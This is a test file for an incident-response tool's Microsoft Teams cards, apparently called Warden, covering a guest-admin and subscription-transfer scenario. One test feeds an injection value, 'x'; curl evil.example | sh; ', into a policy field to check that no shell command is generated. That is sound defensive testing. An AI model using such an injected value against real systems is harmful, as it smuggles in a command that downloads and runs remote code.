import { describe, expect, it } from "vitest";
import { auditCard } from "../../src/cards/audit-card.js";
import {
  CARD_BUDGET_BYTES,
  incidentCard,
  noticeCard,
  utf16Bytes,
  VERBS,
} from "../../src/cards/incident-card.js";
import type { IncidentView } from "../../src/cards/incident-view.js";
import { inventoryCard } from "../../src/cards/inventory-card.js";
import { visibleLength, visibleText } from "../../src/cards/visible-text.js";
import { transferPolicySteps } from "../../src/respond/responders/transfer-policy-steps.js";
import type { IncidentState } from "../../src/store/incidents-repo.js";
import { cardProblems } from "../helpers/adaptive-card-check.js";
import { cardTexts, reading } from "../helpers/adaptive-markdown.js";

/**
 * Every version of the incident card parses with the `adaptivecards` package without a validation error,
 * stays under Teams' 28 KB, gives every input an id and every Action.Execute a verb Warden knows, and
 * carries in its buttons only the incident id and version: never what to do.
 */

const STATES: IncidentState[] = [
  "open",
  "pending",
  "approved",
  "executing",
  "contained",
  "partial",
  "failed",
  "denied",
  "expired",
  "auto-contained",
  "reverted",
];

function view(state: IncidentState, actions = 4): IncidentView {
  const t = Date.UTC(2026, 10, 2, 10, 0);
  return {
    id: "inc-0123456789abcdef",
    version: 7,
    state,
    severity: "critical",
    confidence: 0.97,
    title: "A guest was given admin rights and moved a subscription out of the directory",
    story:
      "Priya Raman invited it.support@outlook-helpdesk.net, made it Global Administrator and Owner of Contoso Lab 1; it moved Contoso Lab 1 to tenant 6b1c… (not yours).",
    tenant: { id: "8f2c6a1e-3b7d-4c9e-a5f1-2d4b6c8e0a13", name: "Contoso Lab" },
    subscriptions: [
      {
        id: "df42ad1f-40c1-43f4-a389-80a49ee24ecf",
        name: "Contoso Lab 1",
        movedTo: "6b1c2f4e-9d3a-4e8b-b7a1-0c5d9e2f3a4b",
      },
    ],
    confidenceReasons: ["let in, transfers opened, subscription moved"],
    evidenceMore: 2,
    notDone: [
      {
        text: "Contoso Lab 1 is in another directory",
        url: "https://portal.azure.com/#view/Microsoft_Azure_Support/HelpAndSupportBlade/~/overview",
      },
    ],
    decisions:
      state === "pending"
        ? []
        : state === "denied"
          ? [{ verb: "Denied", by: "SOC Analyst", at: t, reason: "looks real" }]
          : [{ verb: "Approved", by: "SOC Analyst", at: t }],
    subject: {
      name: "it.support",
      userPrincipalName: "it.support_outlook-helpdesk.net#EXT#@contoso.onmicrosoft.com",
      kind: "guest",
      homeTenant: "outlook-helpdesk.net",
      enabled: true,
    },
    actor: {
      name: "Priya Raman",
      userPrincipalName: "priya.raman@contoso.onmicrosoft.com",
      ipAddress: "203.0.113.140",
    },
    timeline: Array.from({ length: 15 }, (_, i) => ({
      time: t + i * 60_000,
      text: `Step ${i}: something happened with a long description ${"x".repeat(80)}`,
    })),
    evidence: Array.from({ length: 10 }, (_, i) => ({
      text: `evidence ${i}`,
      url: `https://entra.microsoft.com/#view/${i}`,
    })),
    actions: Array.from({ length: actions }, (_, i) => ({
      id: `inc-0123456789abcdef:disable-account:user:${i}`,
      action: "disable-account",
      target: `user${i}@contoso.onmicrosoft.com`,
      changes: ["Set accountEnabled from true to false", "Revoke every sign-in session"],
      state: state === "pending" ? "planned" : state === "failed" ? "failed" : "done",
      outcome: "done",
    })),
    ...(state === "pending"
      ? { waitingBecause: "confidence 0.4 is under the automatic threshold 0.95" }
      : { decision: { by: "SOC Analyst", at: t, reason: "looks real" } }),
  };
}

function walk(node: unknown, visit: (el: Record<string, unknown>) => void): void {
  if (Array.isArray(node)) for (const n of node) walk(n, visit);
  else if (node !== null && typeof node === "object") {
    visit(node as Record<string, unknown>);
    for (const value of Object.values(node)) walk(value, visit);
  }
}

/** What the `adaptivecards` package and Teams would refuse in a card (helpers/adaptive-card-check.ts). */
const problems = (card: unknown): string[] => cardProblems(card, [...VERBS, "inventoryPage"]);

describe("incident cards", () => {
  for (const state of STATES) {
    it(`the ${state} card is valid Adaptive Card 1.5, under 28 KB, with ids and verbs`, () => {
      const card = incidentCard(view(state, 20));
      expect(problems(card)).toEqual([]);
      // Teams' limit as the issue measured it: UTF-16, the card alone well under the message's 28 KB.
      expect(utf16Bytes(card)).toBeLessThanOrEqual(CARD_BUDGET_BYTES);
    });
  }

  it("offers Approve, Approve selected and Deny while waiting; Retry after failure; Undo once contained", () => {
    const verbs = (state: IncidentState) => {
      const found: string[] = [];
      walk(incidentCard(view(state)), (el) => {
        if (el["type"] === "Action.Execute") found.push(String(el["verb"]));
      });
      return found.sort();
    };
    expect(verbs("pending")).toEqual(["acknowledge", "approve", "approveSelected", "deny", "history"]);
    expect(verbs("failed")).toEqual(["acknowledge", "history", "retry"]);
    expect(verbs("partial")).toEqual(["acknowledge", "history", "retry", "undo"]);
    expect(verbs("contained")).toEqual(["acknowledge", "history", "undo"]);
    expect(verbs("auto-contained")).toEqual(["acknowledge", "history", "undo"]);
    expect(verbs("denied")).toEqual(["history"]);
    expect(verbs("expired")).toEqual(["history"]);
  });

  it("offers no Retry when every failure is one a retry cannot mend, and says why", () => {
    const v = view("failed");
    v.actions = v.actions.map((a) => ({ ...a, outcome: "failed: Not found (404)", retryable: false }));
    const verbs: string[] = [];
    walk(incidentCard(v), (el) => {
      if (el["type"] === "Action.Execute") verbs.push(String(el["verb"]));
    });
    expect(verbs).not.toContain("retry");
    expect(visibleText(incidentCard(v)).join("\n")).toContain("Retry cannot mend disable-account");
  });

  it("asks a reason before an undo, and states what the undo gives back", () => {
    const card = incidentCard(view("contained"));
    const undo = (card["actions"] as Record<string, unknown>[]).find((a) => a["title"] === "Undo");
    expect(undo?.["type"]).toBe("Action.ShowCard");
    const sub = JSON.stringify(undo?.["card"]);
    expect(sub).toContain('"id":"reason"');
    expect(sub).toContain('"isRequired":true');
    expect(sub).toContain("may re-arm an attacker");
    expect(
      cardTexts(undo?.["card"])
        .map((t) => reading(t).shown)
        .join("\n"),
    ).toContain("• user0@contoso.onmicrosoft.com: disable");
  });

  it("shows a reader no decision, and asks Teams to refresh it for the approvers", () => {
    const card = incidentCard(view("pending"), { audience: "reader", refreshFor: ["29:a", "29:b"] });
    const verbs: string[] = [];
    walk(card, (el) => {
      if (el["type"] === "Action.Execute") verbs.push(String(el["verb"]));
    });
    // The refresh's own Action.Execute only: nothing that decides, no trail (an approver's to read).
    expect(verbs).toEqual(["refresh"]);
    expect(card["refresh"]).toEqual({
      action: {
        type: "Action.Execute",
        verb: "refresh",
        title: "Refresh",
        data: { incidentId: "inc-0123456789abcdef", version: 7 },
      },
      userIds: ["29:a", "29:b"],
    });
    expect(visibleText(card).join("\n")).toContain("Only approvers decide.");
    expect(problems(card)).toEqual([]);
  });

  it("puts who, where, how sure and what Approve does first, and the rest behind toggles", () => {
    const card = incidentCard(view("pending", 14));
    const shown = visibleText(card).join("\n");
    for (const fact of [
      "Tenant Contoso Lab (8f2c6a1e",
      "Subscription Contoso Lab 1 (df42ad1f",
      "· inc-0123456789abcdef",
      "Confidence 97%: let in, transfers opened",
    ])
      expect(shown).toContain(fact);
    expect(shown).toContain("If you approve");
    // The timeline, the evidence and each action are hidden until toggled.
    expect(shown).not.toContain("Step 0");
    expect(shown).not.toContain("evidence 0");
    // Every reason for the confidence is behind the Evidence toggle.
    expect(cardTexts(card).map((t) => reading(t).shown)).toContain(
      "Why 97%: let in, transfers opened, subscription moved",
    );
    expect(shown).not.toContain("Set accountEnabled");
    const toggles: string[] = [];
    walk(card, (el) => {
      if (el["type"] === "Action.ToggleVisibility") toggles.push(String(el["title"]));
    });
    expect(toggles).toEqual(["Who", "Timeline (15)", "Evidence (12)", "Actions (14)"]);
    expect(card["speak"]).toMatch(/^A guest was given admin rights/);
    // The header fits a phone: at most 700 characters shown before any toggle (issue 25).
    expect(visibleLength(card)).toBeLessThanOrEqual(700);
  });

  it("says each action's state in a word and a time, undo-failed apart from failed", () => {
    const v = view("partial");
    const at = Date.UTC(2026, 10, 2, 7, 46, 12);
    v.actions = [
      { ...v.actions[0], state: "done", at } as IncidentView["actions"][number],
      {
        ...v.actions[1],
        state: "failed",
        at,
        outcome: "failed: Not found (404)",
        retryable: false,
      } as IncidentView["actions"][number],
      {
        ...v.actions[2],
        state: "undo-failed",
        at,
        outcome: "could not restore",
      } as IncidentView["actions"][number],
      { ...v.actions[3], state: "waiting", at } as IncidentView["actions"][number],
    ];
    const lines = cardTexts(incidentCard(v)).map((t) => reading(t).shown.replaceAll("**", ""));
    expect(lines.some((l) => l.startsWith("✔ Done 07:46:12 · disable-account"))).toBe(true);
    expect(lines.some((l) => l.startsWith("✖ Failed 07:46:12 · disable-account"))).toBe(true);
    expect(lines.some((l) => l.startsWith("⚠ Undo failed 07:46:12 · disable-account"))).toBe(true);
    expect(lines.some((l) => l.startsWith("⏳ Waiting to retry 07:46:12 · disable-account"))).toBe(true);
    const denied = view("denied");
    denied.actions = denied.actions.map((a) => ({ ...a, state: "planned" }));
    expect(
      cardTexts(incidentCard(denied))
        .map((t) => reading(t).shown.replaceAll("**", ""))
        .some((l) => l.startsWith("○ Not run: denied")),
    ).toBe(true);
  });

  it("offers Approve now on a denied or expired card, and Contain again after an undo, never Deny", () => {
    const titles = (state: IncidentState, actionState: IncidentView["actions"][number]["state"]) => {
      const v = view(state);
      v.actions = v.actions.map((a) => ({ ...a, state: actionState }));
      return (incidentCard(v)["actions"] as { title: string }[]).map((a) => a.title);
    };
    expect(titles("denied", "planned")).toEqual(["Approve now", "Approve selected", "Audit trail"]);
    expect(titles("expired", "planned")).toEqual(["Approve now", "Approve selected", "Audit trail"]);
    expect(titles("reverted", "undone")).toEqual(["Contain again", "Approve selected", "Audit trail"]);
    // Nothing left to approve: no button.
    expect(titles("reverted", "undo-failed")).toEqual(["Audit trail"]);
    const v = view("reverted");
    v.actions = v.actions.map((a) => ({ ...a, state: "undone" }));
    expect(visibleText(incidentCard(v)).join("\n")).toContain("If you contain again");
  });

  it("stays under Teams' limit whatever the incident: 150 actions, 30 decisions, 40 subscriptions", () => {
    for (const state of ["pending", "contained", "reverted"] as const) {
      const v = view(state, 150);
      v.decisions = Array.from({ length: 30 }, (_, i) => ({
        verb: i % 2 === 0 ? "Approved" : "Undone",
        by: `Approver ${i} ${"x".repeat(100)}`,
        at: Date.UTC(2026, 10, 2, 10, i),
        reason: "r".repeat(500),
      }));
      v.subscriptions = Array.from({ length: 40 }, (_, i) => ({
        id: `00000000-0000-4000-8000-${String(i).padStart(12, "0")}`,
        name: `Subscription named at length ${"n".repeat(200)} ${i}`,
      }));
      v.story = "s".repeat(5_000);
      if (state === "reverted") v.actions = v.actions.map((a) => ({ ...a, state: "undone" }));
      const card = incidentCard(v);
      expect(utf16Bytes(card), state).toBeLessThanOrEqual(CARD_BUDGET_BYTES);
      expect(problems(card)).toEqual([]);
      // What is left out is counted, and the decision is still possible.
      const verbs: string[] = [];
      walk(card, (el) => {
        if (el["type"] === "Action.Execute") verbs.push(String(el["verb"]));
      });
      if (state !== "contained") expect(verbs).toContain("approve");
      expect(visibleText(card).join("\n")).toContain("27 earlier decisions");
    }
  });

  it("carries only the incident id and version in its buttons", () => {
    walk(incidentCard(view("pending")), (el) => {
      if (el["type"] === "Action.Execute")
        expect(el["data"]).toEqual({ incidentId: "inc-0123456789abcdef", version: 7 });
    });
  });

  it("keeps how it began and where it stands, names its incident id, and marks its sections as headings", () => {
    const card = incidentCard(view("pending"));
    const shown = cardTexts(card).map((t) => reading(t).shown);
    // Fifteen steps: the first four (the invitation, the grant), the count between, the last eight.
    const steps = shown
      .filter((t) => /\d\d:\d\d:\d\d: Step \d+:/.test(t))
      .map((t) => Number(/Step (\d+)/.exec(t)?.[1]));
    expect(steps).toEqual([0, 1, 2, 3, 7, 8, 9, 10, 11, 12, 13, 14]);
    expect(shown).toContain("(3 steps between, in the audit trail)");
    // Times to the second.
    expect(shown.some((t) => t.startsWith("2026-11-02 10:00:00: Step 0:"))).toBe(true);
    expect(visibleText(card).join("\n")).toContain("· inc-0123456789abcdef");
    const headings: string[] = [];
    walk(card, (el) => {
      if (el["type"] === "TextBlock" && el["style"] === "heading")
        headings.push(reading(String(el["text"])).shown);
    });
    expect(headings).toEqual([
      "A guest was given admin rights and moved a subscription out of the directory",
      "If you approve",
      "Not done by Warden",
    ]);
  });

  it("says who decided, when, and why; and why it was not contained automatically", () => {
    const denied = JSON.stringify(incidentCard(view("denied")));
    expect(denied).toContain("Denied by SOC Analyst, 2026-11-02 10:00:00 UTC: looks real");
    // Reasons are escaped for markdown (src/cards/markdown-text.ts): compare what a reader sees.
    expect(cardTexts(incidentCard(view("pending"))).map((t) => reading(t).shown)).toContain(
      "Not contained automatically: confidence 0.4 is under the automatic threshold 0.95",
    );
  });

  it("numbers the steps a Global Administrator must take, as a reader sees them, the command whole", () => {
    const policy = {
      blockSubscriptionsLeavingTenant: true,
      blockSubscriptionsIntoTenant: false,
      exemptedPrincipals: [],
    };
    const base = view("partial", 1);
    const asked: IncidentView = {
      ...base,
      actions: [
        {
          id: "inc-0123456789abcdef:block-subscription-transfer:tenant",
          action: "block-subscription-transfer",
          target: "tenant contoso",
          changes: ["Block subscriptions from leaving the directory (was allowed)"],
          state: "awaiting-admin",
          outcome: "waiting for a Global Administrator: Microsoft lets only a Global Administrator ...",
          administratorSteps: transferPolicySteps(policy, "block"),
        },
      ],
    };
    const card = incidentCard(asked);
    expect(problems(card)).toEqual([]);
    const shown = cardTexts(card).map((t) => reading(t).shown);
    const at = shown.indexOf(
      "A Global Administrator must do this (block-subscription-transfer; Warden may not):",
    );
    expect(at).toBeGreaterThan(0);
    const steps = shown.slice(at + 1, at + 9);
    expect(steps.map((s) => s.slice(0, 3))).toEqual(["1. ", "2. ", "3. ", "4. ", "5. ", "6. ", "7. ", "8. "]);
    // The commands a reader copies are the ones Microsoft documents, one a line, the body as JSON.
    expect(steps.filter((s) => s.includes("az rest"))).toEqual([
      expect.stringContaining(
        'az rest --method post --url "/providers/Microsoft.Authorization/elevateAccess?api-version=2016-07-01"',
      ),
      expect.stringContaining(
        `az rest --method put --url "/providers/Microsoft.Subscription/policies/default?api-version=2021-10-01" --body '${JSON.stringify(policy)}'`,
      ),
    ]);
    expect(steps.some((s) => s.startsWith("4. Exempted users: none"))).toBe(true);
    // Once done, the steps are gone: the card shows them only while someone is asked.
    const done = incidentCard({
      ...asked,
      actions: asked.actions.map((a) => ({ ...a, state: "done", administratorSteps: undefined })),
    });
    expect(JSON.stringify(done)).not.toContain("must do this");
  });

  it("gives no shell command when the policy's exempted principals are not all object ids", () => {
    const steps = transferPolicySteps(
      {
        blockSubscriptionsLeavingTenant: true,
        blockSubscriptionsIntoTenant: false,
        exemptedPrincipals: ["x'; curl evil.example | sh; '"],
      },
      "block",
    );
    expect(steps.join("\n")).not.toContain("az rest --method put");
    expect(steps.join("\n")).not.toContain("curl");
    expect(steps).toContain(
      "(No shell command: the policy's exempted principals are not all object ids; use the portal.)",
    );
  });

  it("the inventory card is valid, pages eight at a time, and offers the next page while there is one", () => {
    const entry = (i: number) => ({
      id: `id-${i}`,
      displayName: `Guest ${i}`,
      userPrincipalName: `g${i}_partner.example#EXT#@contoso.onmicrosoft.com`,
      mail: `g${i}@partner.example`,
      userType: "Guest",
      homeDomain: "partner.example",
      createdDateTime: "2026-11-01T00:00:00Z",
      invitedBy: null,
      accountEnabled: true,
      lastSignIn: null,
      roles: [
        {
          kind: "entra" as const,
          roleId: "r",
          roleName: "Global Administrator",
          scope: "/",
          assignment: "active" as const,
        },
      ],
      risk: { recentlyCreated: true, riskyUser: i === 0, promotedSoonAfterCreation: false },
    });
    const entries = Array.from({ length: 20 }, (_, i) => entry(i));
    const first = inventoryCard(entries, 0);
    expect(problems(first)).toEqual([]);
    expect(JSON.stringify(first)).toContain("20 in all, 20 flagged, 0 disabled. Page 1 of 3.");
    expect(first["actions"]).toEqual([
      { type: "Action.Execute", verb: "inventoryPage", title: "Next page", data: { page: 1 } },
    ]);
    expect(inventoryCard(entries, 2)["actions"]).toEqual([]);
    expect(problems(inventoryCard([], 0))).toEqual([]);
  });

  it("the notice and audit-trail cards are valid too", () => {
    expect(problems(noticeCard("Refused", "You are not an approver."))).toEqual([]);
    const trail = Array.from({ length: 45 }, (_, i) => ({
      at: Date.UTC(2026, 10, 2) + i,
      action: "refused",
      actorName: "x",
      detail: { reason: "r" },
    }));
    expect(problems(auditCard("inc-1", trail))).toEqual([]);
  });

  it("the checker itself catches a missing verb, a missing input id and an empty TextBlock", () => {
    const bad = {
      type: "AdaptiveCard",
      version: "1.5",
      body: [{ type: "TextBlock", text: "" }, { type: "Input.Text" }, { type: "NotAnElement" }],
      actions: [{ type: "Action.Execute", title: "x" }],
    };
    expect(problems(bad).some((p) => p.startsWith("parse:") && p.includes("NotAnElement"))).toBe(true);
    expect(problems(bad)).toEqual(
      expect.arrayContaining([
        "Input.Text without id",
        "Action.Execute without a known verb (undefined)",
        "TextBlock without text",
      ]),
    );
  });
});
